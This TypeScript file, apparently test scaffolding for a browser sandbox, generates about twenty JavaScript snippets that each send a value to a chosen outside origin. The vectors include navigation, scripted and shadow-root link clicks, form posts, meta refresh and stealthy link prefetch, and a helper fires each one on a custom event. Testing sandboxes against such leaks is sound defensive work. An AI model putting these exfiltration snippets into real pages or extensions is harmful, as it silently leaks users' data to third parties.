/**
 * Ways in which code of a part could carry the number of a notice out, as `n` in the page; most leave the page when they
 * succeed; those that have a file fetched ahead are noticed by nobody.
 * @param elsewhere The origin that it would be carried to.
 */
export const waysOut = (elsewhere: string): Readonly<Record<string, string>> => ({
  'a new window': `open('${elsewhere}/?' + n)`,
  'a new window that is led on': `open('about:blank').location = '${elsewhere}/?' + n`,
  'the location': `location.href = '${elsewhere}/?' + n`,
  'the location, replaced': `location.replace('${elsewhere}/?' + n)`,
  'a link that is clicked by a script': `const a = document.createElement('a'); a.href = '${elsewhere}/?' + n; document.body.append(a); a.click()`,
  'a link to a new window': `const a = document.createElement('a'); a.href = '${elsewhere}/?' + n; a.target = '_blank'; document.body.append(a); a.click()`,
  'a link that nobody sees': `const a = document.createElement('a'); a.href = '${elsewhere}/?' + n; a.target = '_blank'; a.click()`,
  'an area that is clicked': `const a = document.createElement('area'); a.href = '${elsewhere}/?' + n; a.target = '_blank'; document.body.append(a); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))`,
  'a drawn link that is clicked': `const s = 'http://www.w3.org/2000/svg'; const a = document.createElementNS(s, 'a'); a.setAttribute('href', '${elsewhere}/?' + n); a.setAttribute('target', '_blank'); const d = document.createElementNS(s, 'svg'); d.append(a); document.body.append(d); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))`,
  'a link in a closed root': `const a = document.createElement('a'); a.href = '${elsewhere}/?' + n; a.target = '_blank'; const h = document.createElement('div'); document.body.append(h); h.attachShadow({ mode: 'closed' }).append(a); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true }))`,
  'a click that cannot be cancelled': `const a = document.createElement('a'); a.href = '${elsewhere}/?' + n; a.target = '_blank'; document.body.append(a); a.dispatchEvent(new MouseEvent('click'))`,
  'a form': `const f = document.createElement('form'); f.action = '${elsewhere}/?' + n; f.method = 'post'; document.body.append(f); f.submit()`,
  'a refresh': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${elsewhere}/?' + n; document.head.append(m)`,
  'a link that is told last to fetch ahead': `const l = document.createElement('link'); l.href = '${elsewhere}/?' + n; document.head.append(l); l.rel = 'prefetch'`,
  'a link that fetches ahead as well': `const l = document.createElement('link'); l.href = '${elsewhere}/?' + n; document.head.append(l); l.relList.add('prefetch')`,
  'the attribute of a link that fetches ahead': `const l = document.createElement('link'); l.rel = 'prefetch'; Element.prototype.setAttribute.call(l, 'href', '${elsewhere}/?' + n); document.head.append(l)`,
  'the attribute of such a link, with its namespace': `const l = document.createElement('link'); l.rel = 'prefetch'; l.setAttributeNS(null, 'href', '${elsewhere}/?' + n); document.head.append(l)`,
  'a link that fetches ahead in an empty frame': `const f = document.createElement('iframe'); document.body.append(f); const { contentDocument: d } = f; const l = d.createElement('link'); l.rel = 'prefetch'; l.href = '${elsewhere}/?' + n; d.head.append(l)`,
});

/** Code of a part that tries one way when the page is sent an event: `carry-0` the first, `carry-1` the next. */
export const tryingWays = (number: string, ways: readonly string[]): string =>
  ways
    .map(
      (way, index) =>
        `addEventListener('carry-${index}', () => { const n = '${number}'; ${way}; });`,
    )
    .join('\n');
